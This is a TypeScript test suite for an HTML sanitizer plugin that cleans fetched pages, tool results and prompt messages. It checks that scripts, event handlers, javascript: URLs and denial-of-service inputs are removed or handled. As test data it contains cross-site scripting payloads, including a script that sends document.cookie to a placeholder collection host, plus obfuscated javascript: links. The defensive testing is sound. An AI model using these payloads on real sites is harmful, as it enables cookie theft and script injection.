import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import htmlSanitizer from '../../plugins/html_sanitizer.js';
import type { HtmlSanitizerConfig } from '../../plugins/schemas.js';
import { assertIssueAt, configErrors, parseConfig } from './helpers.js';

const build = (config: unknown = {}) => htmlSanitizer(parseConfig<HtmlSanitizerConfig>('html_sanitizer', config));
const plugin = build();
const clean = (html: string) => {
  const out = plugin.tool_post_invoke({ name: 'fetch_page', result: html });
  return out ? out.modified_payload?.result : html;
};

describe('html_sanitizer', () => {
  it('strips scripts, handlers, javascript: links and comments from a resource page', () => {
    const text = '<h1>Q3 report</h1><p onmouseover="track()">Revenue up 12%.</p>'
      + '<script>fetch("https://collect.example.net/?c=" + document.cookie)</script>'
      + '<a href="javascript:alert(1)">details</a>\x3c!-- internal: 10.0.0.12 --\x3e';
    const result = plugin.resource_post_fetch({ uri: 'https://files.example.com/q3.html', content: { type: 'resource', mime_type: 'text/html', text } });
    assert.deepEqual(result, {
      modified_payload: {
        uri: 'https://files.example.com/q3.html',
        content: { type: 'resource', mime_type: 'text/html', text: '<h1>Q3 report</h1><p>Revenue up 12%.</p><a>details</a>' },
      },
      metadata: { html_removals: 4 },
    });
  });

  it('removes style, iframe and object elements with their content, and stray tags', () => {
    assert.equal(clean('a<style>body{display:none}</style>b<IFRAME src="https://x.test"></iframe >c<object data="x.swf"></object>d<script src=x.js>'), 'abcd');
  });

  it('survives nesting and obfuscation', () => {
    assert.equal(clean('<scr<script>x</script>ipt>alert(1)</script>'), 'alert(1)');
    assert.equal(clean('<img src=x onerror=alert(1)><svg/onload="a()">'), '<img src=x><svg>');
    assert.equal(clean('<img title="a>b" onerror=alert(1)>'), '<img title="a>b">');
    assert.equal(clean('<a href=" jav&#x09;ascript:alert(1)">x</a><a HREF=\'VBScript:x\'>y</a>'), '<a>x</a><a>y</a>');
    assert.equal(clean('<a href="java&#115;cript&colon;x">x</a><iframe src="data:text/html;base64,PHNjcmlwdD4=">'), '<a>x</a>');
  });

  it('keeps safe markup and plain text as they are', () => {
    const safe = '<p class="note">See <a href="https://example.com/docs?a=1&b=2">docs</a> &amp; <b>notes</b> on onboarding.</p>';
    assert.equal(plugin.tool_post_invoke({ name: 't', result: { content: [{ type: 'text', text: safe }] } }), undefined);
    assert.equal(plugin.tool_post_invoke({ name: 't', result: 'x < y and 1 > 0' }), undefined);
  });

  it('sanitizes prompt message text and follows its switches', () => {
    const only = build({ strip_tags: [], strip_comments: false, strip_javascript_urls: false });
    const result = only.prompt_post_fetch({
      prompt_id: 'p',
      result: { messages: [{ role: 'user', content: '<b onclick="x()">hi</b><script>y()</script>\x3c!-- c --\x3e<a href="javascript:z">z</a>' }] },
    });
    assert.deepEqual(result?.modified_payload, {
      prompt_id: 'p',
      result: { messages: [{ role: 'user', content: '<b>hi</b><script>y()</script>\x3c!-- c --\x3e<a href="javascript:z">z</a>' }] },
    });
  });

  it('stays linear on hostile input (unterminated tags, quotes, unclosed elements)', () => {
    const started = performance.now();
    for (const text of ['<a '.repeat(100_000), '<a x="'.repeat(50_000), '<a "'.repeat(75_000), '<script'.repeat(40_000), '\x3c!--'.repeat(75_000)]) {
      clean(text);
    }
    assert.equal(clean('<script>'.repeat(40_000) + 'tail'), 'tail'); // never closed: only the start tags go
    // a quadratic pass takes minutes here; a linear one well under a second
    assert.ok(performance.now() - started < 10_000, `took ${performance.now() - started} ms`);
  });

  it('with an allow_list, writes the page anew from what it allows, values and text escaped', () => {
    const rebuild = build({ allow_list: {} }).tool_post_invoke;
    const html = '<DIV ID=main style="x" onclick="go()"><font color=red>Q3</font> &amp; <b>more</b></DIV>'
      + '<a href="https://e.example/?a=1&b=2" target=top rel="nofollow">l</a><br/><p title=\'say "hi"\'>It\'s 1 < 2</p>';
    assert.deepEqual(rebuild({ name: 't', result: html }), {
      modified_payload: {
        name: 't',
        result: '<div id="main">Q3 &amp; more</div>'
          + '<a href="https://e.example/?a=1&amp;b=2" target="_blank" rel="nofollow noopener noreferrer">l</a><br />'
          + '<p title="say &quot;hi&quot;">It&#x27;s 1 &lt; 2</p>',
      },
      metadata: { html_sanitized: true },
    });
    assert.deepEqual(rebuild({ name: 't', result: { content: [{ type: 'text', text: 'no markup here' }] } }), { metadata: { html_sanitized: false } });
  });

  it('with an allow_list, drops dangerous elements with their content and dangerous URLs, however written', () => {
    const rebuild = (text: string, list: Record<string, unknown> = {}) =>
      build({ allow_list: list }).resource_post_fetch({ uri: "file:///p.html", content: { type: "resource", text } })?.modified_payload?.content as { type: string; text: string } | undefined;
    assert.deepEqual(rebuild('<p>a</p><script>if (a < b) { x("<p>") }</script><iframe><p>in</p></iframe><p>b</p>'),
      { type: 'resource', text: '<p>a</p><p>b</p>' });
    // a void element to drop is dropped alone, not with the rest of the page
    assert.equal(rebuild('<embed src=x.swf><p>kept</p>', { tags: ['p', 'embed'] })?.text, '<p>kept</p>');
    for (const href of ['javascript:alert(1)', ' jav&#x09;ascript:x', 'VBScript:x', 'data:text/html,<b>', 'java\nscript:x']) {
      assert.equal(rebuild(`<a href="${href}">x</a>`)?.text, '<a>x</a>', href);
    }
    assert.equal(rebuild('<img src="data:image/png;base64,AA" alt=i>')?.text, '<img alt="i">');
    assert.equal(rebuild('<img src="data:image/png;base64,AA">', { data_images: true }), undefined);
    assert.equal(rebuild('<p>a\u200bb\u202ec</p>')?.text, '<p>abc</p>');
    assert.equal(rebuild('<h1>Title</h1><p>one &amp; two</p><ul><li>x</li></ul>', { to_text: true })?.text, 'Title\none &amp; two\nx');
  });

  it('with an allow_list, stays linear on hostile input', () => {
    const rebuild = build({ allow_list: {} }).tool_post_invoke;
    const started = performance.now();
    for (const text of ['<a '.repeat(100_000), '<p title="'.repeat(50_000), '<script>'.repeat(40_000), '&#x41'.repeat(100_000), '<iframe>'.repeat(50_000) + 'x']) {
      rebuild({ name: 't', result: text });
    }
    assert.ok(performance.now() - started < 10_000, `took ${performance.now() - started} ms`);
  });

  it('rejects a bad config naming the field', () => {
    assertIssueAt(configErrors('html_sanitizer', { allow_list: { tags: ['p', '<b>'] } }), 'allow_list.tags.1');
    assertIssueAt(configErrors('html_sanitizer', { allow_list: { attributes: { a: ['href', 'on click'] } } }), 'allow_list.attributes.a.1');
    assertIssueAt(configErrors('html_sanitizer', { strip_tags: ['script', '<svg>'] }), 'strip_tags.1');
    assertIssueAt(configErrors('html_sanitizer', { strip_event_handlers: 'yes' }), 'strip_event_handlers');
  });
});
